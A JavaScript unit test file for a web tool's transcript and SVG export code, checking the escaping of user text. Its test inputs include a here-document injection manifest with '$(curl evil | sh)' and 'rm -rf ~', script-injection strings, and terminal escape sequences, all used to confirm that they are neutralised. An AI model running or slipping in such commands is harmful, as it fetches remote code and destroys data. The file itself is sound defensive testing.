// Unit tests of web/src/export.js: the text transcript, and the escaping and placement in the
// SVG of the lanes. lanesToSvg reads the rendered lanes through a handful of DOM calls
// (querySelector(All), getBoundingClientRect, classList, dataset, getComputedStyle); here they are
// answered by small hand-made stand-ins, so that no browser is needed.
// Run: node --test tests/web-unit/
import { after, before, test } from "node:test";
import assert from "node:assert/strict";
import { heredocDelimiter, lanesToSvg, plainText, transcript, xmlText } from "../../web/src/export.js";

const formatDuration = (ms) => `${ms / 1000}s`;

test("transcript: the scenario, kubectl at the cursor, then the terminal's entries", () => {
  const text = transcript({
    yaml: "kind: Pod\nmetadata: {name: web}\n",
    at: 90000,
    formatDuration,
    version: "0.3.0",
    panes: [
      { command: "kubectl get pods", stdout: "NAME   READY\nweb    1/1\n" },
      { command: "kubectl logs web", stdout: "hello" },
    ],
    entries: [
      { at: 30000, command: "kubectl get pods", stdout: "No resources found in default namespace.\n", stderr: "" },
      { at: 40000, step: true, command: "kubectl apply -f -", manifest: "kind: Pod\nmetadata: {name: x}", stdout: "pod/x created\n" },
      { at: 50000, command: "kubectl get nope", stdout: "", stderr: 'error: the server doesn\'t have a resource type "nope"' },
      { at: 60000, command: "kubectl logs web --tail=1", stdout: "out\n", stderr: "warn\n" },
    ],
  });
  assert.equal(
    text,
    [
      "# podplay 0.3.0 transcript: the scenario, kubectl at 90s, and the terminal",
      "$ cat scenario.yaml",
      "kind: Pod",
      "metadata: {name: web}",
      "",
      "# at 90s",
      "$ kubectl get pods",
      "NAME   READY",
      "web    1/1",
      "$ kubectl logs web",
      "hello",
      "",
      "# terminal",
      "# at 30s",
      "$ kubectl get pods",
      "No resources found in default namespace.",
      "# at 40s (a scenario step)",
      "$ kubectl apply -f - <<'EOF'", // quoted: pasted into a shell, nothing in the manifest is expanded
      "kind: Pod",
      "metadata: {name: x}",
      "EOF",
      "pod/x created",
      "# at 50s",
      "$ kubectl get nope",
      'error: the server doesn\'t have a resource type "nope"',
      "# at 60s",
      "$ kubectl logs web --tail=1",
      "out",
      "warn",
      "",
    ].join("\n"),
  );
});

test("transcript without a version or terminal entries has a single-spaced title and no terminal section", () => {
  const text = transcript({ yaml: "kind: Pod", at: 0, formatDuration, panes: [{ command: "kubectl get pods", stdout: "x\n" }], entries: [] });
  assert.equal(text, "# podplay transcript: the scenario, kubectl at 0s, and the terminal\n$ cat scenario.yaml\nkind: Pod\n\n# at 0s\n$ kubectl get pods\nx\n");
  assert.doesNotMatch(text, /# terminal/);
});

test("transcript: an entry with no output is just its command line, and the text always ends with one newline", () => {
  const text = transcript({
    yaml: "",
    at: 5000,
    formatDuration,
    version: "1",
    panes: [],
    entries: [{ at: 5000, command: "kubectl delete pod web" }, { at: 6000, command: "kubectl get pods", stdout: "none\n" }],
  });
  assert.match(text, /\n\$ kubectl delete pod web\n# at 6s\n\$ kubectl get pods\nnone\n$/);
  assert.ok(text.endsWith("none\n") && !text.endsWith("\n\n"));
});

// ---- lanesToSvg, with stand-ins for the few DOM calls it makes ----

const rect = (left, width, top = 0, height = 10) => ({ left, width, top, height });
function fakeEl({ classes = [], box = rect(0, 0), text = "", title = "", dataset = {}, style = {}, children = {}, one = {} } = {}) {
  return {
    classList: { contains: (c) => classes.includes(c) },
    className: classes.join(" "),
    getBoundingClientRect: () => box,
    textContent: text,
    title,
    dataset,
    style,
    querySelectorAll: (sel) => children[sel] ?? [],
    querySelector: (sel) => one[sel] ?? null,
  };
}
const STYLE = { color: "rgb(1, 2, 3)", backgroundColor: "rgb(250, 250, 250)", borderTopColor: "rgb(9, 9, 9)", backgroundImage: "none" };
let saved;
before(() => {
  saved = { document: globalThis.document, getComputedStyle: globalThis.getComputedStyle };
  globalThis.document = { body: fakeEl({ style: STYLE }) };
  globalThis.getComputedStyle = (el) => ({ ...STYLE, ...el.style });
});
after(() => Object.assign(globalThis, saved));

// The text outside tags holds no < or >, every & starts an entity, and attribute values hold no raw quote.
function assertWellFormedText(svg) {
  const body = svg.replace(/^<\?xml[^>]*\?>\n/, "");
  const outside = body.replace(/<[a-zA-Z/][^<>"]*(?:"[^"<>]*"[^<>"]*)*>/g, "");
  assert.doesNotMatch(outside, /[<>]/, `markup left outside the tags: ${outside}`);
  assert.doesNotMatch(body, /&(?!(amp|lt|gt|quot);)/, "a bare &");
}

test("lanesToSvg escapes the title: no markup from it gets into the SVG", () => {
  const lanes = fakeEl();
  const svg = lanesToSvg(lanes, { title: `<script>alert("x")</script> & co` });
  assert.match(svg, /^<\?xml version="1\.0" encoding="UTF-8"\?>\n<svg xmlns="http:\/\/www\.w3\.org\/2000\/svg" width="1000" height="36" /);
  assert.ok(svg.includes(">&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt; &amp; co</text>"), svg);
  assert.ok(!svg.includes("<script>"));
  assert.ok(svg.includes('<rect width="100%" height="100%" fill="rgb(250, 250, 250)"/>'), "the page's background");
  assertWellFormedText(svg);
  // Without a title: no title text, and a shorter drawing.
  const plain = lanesToSvg(lanes);
  assert.doesNotMatch(plain, /<text/);
  assert.match(plain, / height="14" /);
});

test("lanesToSvg escapes lane names, segment labels and titles, and places a segment by its share of the track", () => {
  const seg = fakeEl({ classes: ["seg"], box: rect(25, 50), dataset: { phase: "Running<ok>" }, title: 'phase "Running" & ready', style: { backgroundColor: "rgb(0, 128, 0)", color: "rgb(255, 255, 255)" } });
  const track = fakeEl({ classes: ["track"], box: rect(0, 100, 0, 20), children: { ".seg, .cseg": [seg] } });
  const row = fakeEl({ classes: ["lane"], one: { ".track": track, ".lane-name": { textContent: 'web<1> & "two"' } } });
  const lanes = fakeEl({ children: { ":scope > .lane": [row] } });
  const svg = lanesToSvg(lanes);
  assertWellFormedText(svg);
  assert.ok(svg.includes('<g class="pod-lane" data-name="web&lt;1&gt; &amp; &quot;two&quot;">'), svg);
  assert.ok(svg.includes('fill="rgb(1, 2, 3)">web&lt;1&gt; &amp; &quot;two&quot;</text>'), svg);
  // The label column is 170 wide and the track 820 (1000 - 170 - 10): 25 % in is x = 375, half is 410 wide.
  assert.ok(svg.includes('<rect class="segment" x="375.0" y="8" width="410.0" height="16.1" fill="rgb(0, 128, 0)"><title>phase &quot;Running&quot; &amp; ready</title></rect>'), svg);
  assert.ok(svg.includes('fill="rgb(255, 255, 255)">Running&lt;ok&gt;</text>'), svg);
  assert.match(svg, / height="46" /, "one pod row of 26 between margins");
});

// ---- what the exports write of user text ----

test("plainText shows the characters a terminal would act on as \\uXXXX, and keeps tabs, newlines and other text", () => {
  assert.equal(plainText("a\tb\nc — ünï 日本 🚀 \\ $(x)"), "a\tb\nc — ünï 日本 🚀 \\ $(x)");
  assert.equal(plainText("\u001b]52;c;cGF5bG9hZA==\u0007"), "\\u001B]52;c;cGF5bG9hZA==\\u0007", "OSC 52 (write the clipboard)");
  assert.equal(plainText("\u001b[2J\u001b[31mred"), "\\u001B[2J\\u001B[31mred");
  assert.equal(plainText("ok\rFAKE"), "ok\\u000DFAKE", "a lone CR would overwrite the line");
  assert.equal(plainText("line\r\nnext\r\n"), "line\nnext\n", "CRLF is a newline");
  assert.equal(plainText("\u0000\u007f\u0085\u009b"), "\\u0000\\u007F\\u0085\\u009B");
  assert.equal(plainText("admin\u202e\u2066txt.exe\u2069\u200f\u061c"), "admin\\u202E\\u2066txt.exe\\u2069\\u200F\\u061C", "bidirectional overrides");
  assert.equal(plainText(undefined), "");
  assert.equal(plainText(42), "42");
});

test("transcript escapes every text it writes: the YAML, commands, outputs, manifests", () => {
  const esc = "\u001b]0;owned\u0007";
  const text = transcript({
    yaml: `kind: Pod # ${esc}\r\n`,
    at: 0,
    formatDuration,
    version: "1",
    panes: [{ command: `kubectl logs ${esc}`, stdout: `log ${esc}\n` }],
    entries: [{ at: 0, command: `kubectl get pods ${esc}`, stdout: `out ${esc}`, stderr: `err ${esc}`, manifest: `kind: Pod # ${esc}` }],
  });
  assert.doesNotMatch(text, /[\u0000-\u0008\u000B-\u001F\u007F-\u009F]/, "no control character but tab and newline");
  assert.equal(text.match(/\\u001B\]0;owned\\u0007/g).length, 7);
  assert.ok(text.includes("$ cat scenario.yaml\nkind: Pod # \\u001B]0;owned\\u0007\n\n"), text);
});

test("a manifest is a quoted here-document whose delimiter no line of it equals", () => {
  assert.equal(heredocDelimiter("kind: Pod\n"), "EOF");
  assert.equal(heredocDelimiter("a\nEOF\nb\n"), "EOF1");
  assert.equal(heredocDelimiter("EOF\nEOF1\nEOF2"), "EOF3");
  assert.equal(heredocDelimiter(" EOF\nEOF \n"), "EOF", "only a whole line ends a here-document");
  const manifest = "kind: ConfigMap\ndata:\n  x: $(curl evil | sh)\nEOF\nrm -rf ~\n";
  const text = transcript({ yaml: "", at: 0, formatDuration, panes: [], entries: [{ at: 0, command: "kubectl apply -f -", manifest, stdout: "configmap/x created\n" }] });
  assert.ok(text.includes(`$ kubectl apply -f - <<'EOF1'\n${manifest}EOF1\nconfigmap/x created\n`), text);
});

test("xmlText: markup characters as entities, characters XML cannot hold as U+FFFD, everything else as it is", () => {
  assert.equal(xmlText(`<a href="x">&amp;</a>`), "&lt;a href=&quot;x&quot;&gt;&amp;amp;&lt;/a&gt;");
  assert.equal(xmlText("tab\tnl\ncr\r"), "tab\tnl\ncr\r", "the three controls XML allows");
  assert.equal(xmlText("\u0000\u0001\u001b\u000b\u000c\uffff\ufffe"), "\ufffd".repeat(7));
  assert.equal(xmlText("🚀 \ud83d x \ude80"), "🚀 \ufffd x \ufffd", "a pair stays, half a pair goes");
  assert.equal(xmlText("it's \u0085 ü"), "it's \u0085 ü");
  assert.equal(xmlText(42), "42");
});

test("lanesToSvg stays well-formed XML whatever the lanes hold: control characters and markup in names, titles and classes", () => {
  const nasty = 'x\u001b<script>alert(1)</script>\u0000"&';
  const seg = fakeEl({ classes: ["bseg", 'True"><script>'], box: rect(10, 20), title: nasty, style: { backgroundColor: 'rgb(0, 0, 0)"/><script>' } });
  const track = fakeEl({ classes: ["track"], box: rect(0, 100, 0, 20), children: { ".bseg, .eseg, .ptick": [seg] } });
  const row = fakeEl({ classes: ["lane"], one: { ".track": track, ".lane-name": { textContent: nasty } } });
  const svg = lanesToSvg(fakeEl({ children: { ":scope > .lane": [row] } }), { title: nasty });
  assertWellFormedText(svg);
  assert.doesNotMatch(svg, /<script|[\u0000\u001b]/);
  assert.ok(svg.includes('class="bseg True&quot;&gt;&lt;script&gt;"'), svg);
  assert.ok(svg.includes('fill="rgb(0, 0, 0)&quot;/&gt;&lt;script&gt;"'), svg);
  assert.ok(svg.includes("<title>x\ufffd&lt;script&gt;alert(1)&lt;/script&gt;\ufffd&quot;&amp;</title>"), svg);
});
